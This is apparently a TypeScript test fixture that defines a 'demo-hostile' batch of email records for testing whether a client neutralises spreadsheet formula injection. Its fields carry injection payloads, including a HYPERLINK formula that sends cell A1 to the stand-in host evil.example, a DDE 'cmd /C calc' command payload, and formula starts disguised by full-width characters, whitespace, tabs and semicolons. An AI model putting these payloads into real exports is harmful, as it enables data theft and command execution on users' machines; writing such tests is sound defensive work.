import type { EmailRecord } from '../src/core/records';

export const HOSTILE_BATCH_ID = 'demo-hostile';

/**
 * The `demo-hostile` batch: every way a cell can reach a spreadsheet as a formula, in emails as well
 * as in other cells — the plain `= + - @` starts, the same after spaces or a line feed, the
 * full-width `＝＋－＠`, a tab or `;` that could start a new cell — beside one harmless record.
 * The emulator serves them raw; neutralising is the client's job.
 */
export const HOSTILE_RECORDS: readonly EmailRecord[] = [
  {
    email: '+cmd@example.com',
    status: 'deliverable',
    reason: 'accepted_email',
    name: '=HYPERLINK("http://evil.example/?q="&A1,"x")',
  },
  { email: '-2+3@example.com', status: 'risky', reason: 'low_quality', provider: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { email: '@SUM(1+1)@example.com', status: 'undeliverable', reason: 'rejected_email', name: ' =1+1' },
  { email: '=HYPERLINK("http://evil.example")@example.com', status: 'unknown', reason: 'timeout', name: '\n=cmd' },
  { email: ' =1+1@example.com', status: 'risky', reason: 'low_deliverability', name: '\t-1' },
  { email: '＝1+1@example.com', status: 'unknown', reason: 'unknown', name: '＋1', provider: '－1' },
  {
    email: '＠SUM(A1)@example.com',
    status: 'deliverable',
    reason: 'accepted_email',
    name: 'a\t=1;b',
    provider: 'x;=2',
  },
  { email: 'plain@example.com', status: 'deliverable', reason: 'accepted_email', name: 'Plain, "Safe"', score: 100 },
];
